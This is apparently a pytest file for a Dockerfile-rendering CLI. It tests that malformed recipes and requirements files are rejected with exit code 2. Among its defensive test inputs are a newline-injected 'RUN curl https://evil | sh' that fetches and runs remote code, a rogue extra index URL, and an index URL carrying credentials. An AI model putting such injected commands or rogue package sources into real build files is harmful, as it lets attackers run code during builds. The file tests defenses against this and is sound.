"""``python -m audit render``: bad recipes exit 2 naming file and key path, writing nothing."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from audit.cli.main import main
from tests.support.cli import edit, fails

REPO = Path(__file__).resolve().parents[1]
MINI = REPO / "tests" / "data" / "recipes" / "mini"
TOML = "images/mini/image.toml"
V1_IN = "images/mini/requirements/v1.in"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the templates and the mini recipe, as the working directory."""
    shutil.copytree(REPO / "audit/templates", tmp_path / "templates")  # as overrides
    shutil.copytree(MINI, tmp_path / "images" / "mini")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def render_fails(project: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    """Run render, expect exit 2 and an empty build/, return stderr."""
    err = fails(capsys, 2, "render", "mini", *args)
    assert not (project / "build").exists()
    return err


BAD_RECIPES = [
    pytest.param(TOML, "platform =", "platfrom =",
                 [f"{TOML}: image.platfrom", "did you mean 'platform'"], id="misspelt-key"),
    pytest.param(TOML, '  pip = "requirements/v1.in"',
                 '  pip = "requirements/v1.in"\n  pip = "requirements/v2.in"',
                 [f"{TOML}: stage[1].layer[1].pip", "duplicate key"], id="duplicate-key"),
    pytest.param(TOML, 'run = "echo v2"', 'run = "echo v2\\nRUN curl https://evil | sh"',
                 [f"{TOML}: stage[2].layer[2].run", "newline"], id="newline-in-value"),
    pytest.param(V1_IN, "six>=1.16", "six>=1.16\nsix (not pep 508",
                 [f"{V1_IN}:3", "PEP 508", f"{TOML}: stage[1].layer[1].pip"], id="non-pep508"),
    pytest.param(V1_IN, "six>=1.16", "--extra-index-url https://evil.example/simple\nsix",
                 [f"{V1_IN}:2", "not declared", f"{TOML}: stage[1].layer[1].pip", "[indexes]"],
                 id="undeclared-extra-index-url"),
    pytest.param(V1_IN, "six>=1.16", "Foo_Bar\nfoo-bar",
                 [f"{V1_IN}:3", "already listed at", f"{TOML}: stage[1].layer[1].pip"],
                 id="names-differ-by-normalisation"),
    pytest.param(TOML, "https://example.org/nightly/", "https://bot:t0ken@example.org/nightly/",
                 [f"{TOML}: indexes.nightly", "credentials", "BuildKit secret"],
                 id="credentials-in-index-url"),
    pytest.param(TOML, 'name = "v2"', 'name = "v3"',
                 [f"{TOML}: stage[2].name", "in order", "'v2'"], id="stage-out-of-order"),
]  # fmt: skip


@pytest.mark.parametrize(("relpath", "old", "new", "expected"), BAD_RECIPES)
def test_bad_recipe_exits_2_and_writes_nothing(
    project: Path,
    capsys: pytest.CaptureFixture[str],
    relpath: str,
    old: str,
    new: str,
    expected: list[str],
) -> None:
    edit(project, relpath, old, new)
    err = render_fails(project, capsys)
    for words in expected:
        assert words in err
    assert "hint:" in err


def test_template_typo_exits_2_naming_the_template(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit(project, "templates/layers/run.j2", "step.commands", "step.comands")
    err = render_fails(project, capsys)
    assert re.search(r"error: templates/layers/run\.j2:\d+: template error", err)
    assert "comands" in err


def test_unknown_stage_exits_2(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert "did you mean 'v2'" in render_fails(project, capsys, "--stage", "v22")


def test_unknown_image_exits_2(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["render", "nope"]) == 2
    assert "no such recipe" in capsys.readouterr().err


def test_render_prints_what_it_wrote(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["render", "mini"]) == 0
    out = capsys.readouterr().out
    assert "Dockerfile" in out and "written" in out
    assert (project / "build/mini/Dockerfile").is_file()
    assert main(["render", "mini"]) == 0
    assert "0 written" in capsys.readouterr().out


def test_render_json_says_what_was_written_then_that_nothing_was(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["render", "mini", "--format", "json"]) == 0
    first = json.loads(capsys.readouterr().out)
    assert first["schema"] == "layer-audit.render/1" and first["image"] == "mini"
    assert first["dockerfile"] == "build/mini/Dockerfile" and first["context"] == "build/mini"
    assert "build/mini/Dockerfile" in first["written"] and first["unchanged"] == []
    assert main(["render", "mini", "--format", "json", "--stage", "v1"]) == 0
    second = json.loads(capsys.readouterr().out)
    assert second["written"] == ["build/mini/Dockerfile", "build/mini/recipe.json"]  # v1 only
    assert set(second["unchanged"]) < set(first["written"])
    assert all((project / path).is_file() for path in second["unchanged"])


def test_every_pip_layer_mounts_the_pip_cache(project: Path) -> None:
    """The mount README's "a pip cache mount speeds rebuilds" rests on: one per pip RUN."""
    assert main(["render", "mini"]) == 0
    runs = (project / "build/mini/Dockerfile").read_text().split("\nRUN ")
    pip_runs = [run for run in runs if " -m pip install " in run.split("\n\n")[0]]
    assert len(pip_runs) == 2  # v1's and v2's pip layer
    assert all("--mount=type=cache,target=/root/.cache/pip" in run for run in pip_runs)
